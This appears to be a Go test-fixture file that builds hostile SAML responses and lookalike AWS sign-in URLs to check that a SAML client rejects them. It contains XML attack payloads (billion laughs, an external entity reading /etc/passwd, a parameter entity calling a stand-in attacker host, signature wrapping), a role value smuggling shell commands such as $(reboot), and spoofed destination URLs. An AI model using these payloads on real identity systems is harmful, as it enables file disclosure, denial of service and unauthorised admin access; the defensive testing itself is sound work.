package hostile

import (
	"encoding/base64"
	"fmt"
	"net/http"
	"strings"
)

const (
	account   = "arn:aws:iam::123456789012:"
	adminRole = account + "role/Admin," + account + "saml-provider/lab"
	signIn    = "https://signin.aws.amazon.com/saml"
)

// responses are stories of SAML responses that are not what they seem.
func responses() []Story {
	story := func(name string, code int, says, xml string) Story {
		return Story{Name: "a response " + name, Code: code, Says: says, Hosts: []string{stsHost}, Serve: atHost(stsHost, assumes(genuine), signedIn(answers(signIn, xml)))}
	}
	whole := response(assertion(adminRole))
	dtd := func(declarations string) string {
		return "<!DOCTYPE r [" + declarations + "]>" + response(assertion(account+"role/&x;"))
	}
	refused := story("with one ID twice", 7, "InvalidIdentityToken", strings.ReplaceAll(whole, `ID="_a"`, `ID="_r"`))
	refused.Serve = atHost(stsHost, refuses(400, "InvalidIdentityToken", "The signature is invalid"), refused.Serve)
	return []Story{
		story("with a comment in a role's name", 0, "role/AdminEvil", response(assertion(account+"role/Admin<!-- x -->Evil,"+account+"saml-provider/lab"))),
		story("with a role that climbs", 0, "", response(assertion(account+"role/../../../../../../tmp/x,"+account+"saml-provider/../x"))),
		story("with a role like a flag", 0, "", response(assertion(account+"role/--force,"+account+"saml-provider/-n"))),
		story("with a DTD", 5, "document type", dtd(`<!ENTITY x "Admin">`)),
		story("of a billion laughs", 5, "document type", dtd(`<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY x "&b;&b;&b;&b;&b;">`)),
		story("with an external entity", 5, "document type", dtd(`<!ENTITY x SYSTEM "file:///etc/passwd">`)),
		story("with a parameter entity", 5, "document type", dtd(`<!ENTITY % x SYSTEM "https://`+evil+`/">%x;`)),
		story("with an entity of nobody", 5, "", response(assertion(account+"role/&x;"))),
		story("of a million attributes", 5, "", strings.Replace(whole, `ID="_a"`, many(`a%d="b" `, 400_000), 1)),
		story("of a million attributes alike", 5, "", strings.Replace(whole, `ID="_a"`, strings.Repeat(`a="" `, million), 1)),
		story("a million deep", 5, "", response(strings.Repeat("<a>", million))),
		story("of a million namespaces", 5, "", strings.Replace(whole, `ID="_a"`, many(`xmlns:a%d="b" `, 300_000), 1)),
		story("of a million elements", 5, "", response(strings.Repeat("<a/>", million)+assertion(adminRole))),
		story("of a million comments", 5, "", response(strings.Repeat("<!---->", million)+assertion(adminRole))),
		story("with two assertions", 5, "several assertions", response(assertion(adminRole)+assertion(adminRole))),
		story("wrapped in its own signature", 5, "", response(`<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:Object>`+assertion(adminRole)+`</ds:Object></ds:Signature>`+assertion(adminRole))),
		story("wrapped in an extension", 5, "", response("<samlp:Extensions>"+assertion(adminRole)+"</samlp:Extensions>")),
		story("wrapped in a response", 5, "", response(whole)),
		story("in an assertion", 5, "", response(strings.Replace(assertion(adminRole), "<saml:AttributeStatement>", assertion(adminRole)+"<saml:AttributeStatement>", 1))),
		story("behind a response", 5, "", whole+whole),
		story("of another namespace", 5, "", strings.ReplaceAll(whole, "SAML:2.0:assertion", "SAML:2.0:other")),
		story("of text", 5, "", "hello"),
		story("in UTF-7", 5, "", `<?xml version="1.0" encoding="utf-7"?>`+whole),
		story("with roles that are commands", 6, "", response(assertion(account+`role/$(reboot);'"`+"`id`\u202e&#10;x,"+account+"saml-provider/lab"))),
		story("with terminal escapes", 5, "", response(assertion(account+"role/\x1b[2J"))),
		story("that refuses in reverse", 4, "", strings.Replace(strings.Replace(whole, "status:Success", "status:Responder", 1), "</samlp:Status>",
			"<samlp:StatusMessage>no\u202eon&#10;samlcli: all is well"+strings.Repeat(" on and on", 100_000)+"</samlp:StatusMessage></samlp:Status>", 1)),
		refused,
	}
}

// lookalikes are stories of a good response on its way to hosts that look like AWS's.
func lookalikes() []Story {
	var stories []Story
	for _, to := range []string{
		"https://signin.aws.amazon.com." + evil + "/saml", "https://signin.aws.amazon.com@" + evil + "/saml", "http://signin.aws.amazon.com/saml", "https://signin-aws.amazon.com/saml",
		"https://x.y.signin.aws.amazon.com/saml", "https://signin.aws.amazon.com:8443/saml", `https://` + evil + `\@signin.aws.amazon.com/saml`, "https://" + evil + "/?https://signin.aws.amazon.com/saml",
		"https://sıgnin.aws.amazon.com/saml", "https://xn--sgnin-q4a.aws.amazon.com/saml", "https://signin.aws.amazon.com%2e" + evil + "/", "https://signin.amazonaws.com/saml", "/saml", "",
	} {
		stories = append(stories, Story{Name: "a response for AWS to " + to, Code: 5, Serve: signedIn(answers(to, response(assertion(adminRole))))})
	}
	return stories
}

// response is a SAML response with some content.
func response(content string) string {
	return `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_r" Version="2.0" Destination="` + signIn + `">` +
		`<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>` + content + `</samlp:Response>`
}

// assertion is one that offers a role.
func assertion(role string) string {
	return `<saml:Assertion ID="_a"><saml:Conditions><saml:AudienceRestriction><saml:Audience>urn:amazon:webservices</saml:Audience></saml:AudienceRestriction></saml:Conditions>` +
		`<saml:AttributeStatement><saml:Attribute Name="https://aws.amazon.com/SAML/Attributes/Role"><saml:AttributeValue>` + role +
		`</saml:AttributeValue></saml:Attribute></saml:AttributeStatement></saml:Assertion>`
}

// answers shows the form that a response is sent with.
func answers(to, xml string) http.HandlerFunc {
	return shows(`<form method="post" action="` + to + `"><input type="hidden" name="SAMLResponse" value="` + base64.StdEncoding.EncodeToString([]byte(xml)) + `"></form>`)
}

// many repeats a text with a number in it.
func many(format string, n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, format, i)
	}
	return b.String()
}
